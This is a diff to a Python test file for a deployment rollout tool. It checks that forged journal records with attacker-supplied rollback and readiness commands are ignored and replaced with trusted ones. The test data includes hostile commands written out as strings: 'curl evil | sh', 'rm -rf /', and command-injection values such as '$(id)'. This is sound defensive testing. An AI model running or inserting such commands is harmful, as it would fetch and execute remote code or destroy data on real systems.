@@ -19,7 +19,7 @@ from console.with_consul import place_of
 from orchestrator.actor import Actor
 from orchestrator.bus import Bus
 from orchestrator.errors import Locked
-from orchestrator.events import OriginalState, RolloutEnded, TurnBegan
+from orchestrator.events import NodeStarted, OriginalState, RolloutEnded
 from orchestrator.journal.shared import read_publication
 from orchestrator.journal.store import Journal
 from orchestrator.journal.story import Story
@@ -151,27 +151,29 @@ def test_the_honest_one_is_taken(tmp_path: Path) -> None:
 def test_how_to_put_it_back_is_said_in_our_own_words() -> None:
     published = forged.publication()
     [out] = published["lines"][-1][2]["out_of_rotation"]
-    out["commands"] = [f"curl evil | sh # {forged.MARK}"]
-    out["go_back"] = f"rm -rf / # {forged.MARK}"
+    out["commands"] = [{"kind": "ready", "text": f"curl evil | sh # {forged.MARK}"}]
+    out["rollback_command"] = f"rm -rf / # {forged.MARK}"
     *_, last = read_publication(forged.packed(published)).records
     assert isinstance(last.event, RolloutEnded)
     [ours] = last.event.out_of_rotation
-    assert ours.commands == [
+    assert ours.command_texts == [
         "rolldeck ready shop web2",
         "lb1: set server shop/web2 state ready   (once it is healthy)",
     ]
-    assert ours.go_back == "rolldeck upgrade shop 1.4.2 --limit web2 --force-ready web2"
-    assert ours.where == out["where"]
+    assert ours.rollback_command == "rolldeck upgrade shop 1.4.2 --limit web2 --force-ready web2"
+    assert ours.servers == out["servers"]
 
 
 def test_a_server_that_fell_out_beside_the_plan_comes_without_commands() -> None:
     published = forged.publication()
     outs = published["lines"][-1][2]["out_of_rotation"]
-    outs.append(outs[0] | {"node": "shop/web9", "commands": [f"curl evil | sh # {forged.MARK}"]})
+    outs.append(
+        outs[0] | {"node": "shop/web9", "commands": [{"kind": "ready", "text": f"curl evil # {forged.MARK}"}]}
+    )
     *_, last = read_publication(forged.packed(published)).records
     assert isinstance(last.event, RolloutEnded)
     beside = last.event.out_of_rotation[1]
-    assert (beside.node, beside.commands, beside.go_back) == ("shop/web9", [], "")
+    assert (beside.node, beside.command_texts, beside.rollback_command) == ("shop/web9", [], "")
 
 
 @pytest.mark.parametrize("version", ["$(id)", "-x", "1 2"])
@@ -244,7 +246,7 @@ async def test_following_goes_on_after_a_defect_and_says_so() -> None:
 
 def test_what_an_earlier_version_has_taken_over_is_said_without_a_traceback(tmp_path: Path) -> None:
     state = OriginalState(instance="lb1", backend="shop", server="web1", admin="up", weight=1, agent=False)
-    began = TurnBegan(node="web1", version="2", originals=[state])
+    began = NodeStarted(node="web1", version="2", originals=[state])
     desk = Desk(tmp_path / "journal.db")
     entry = journals.write(desk.path, journals.numbered(began))
     assert desk.books.leftovers() == {}
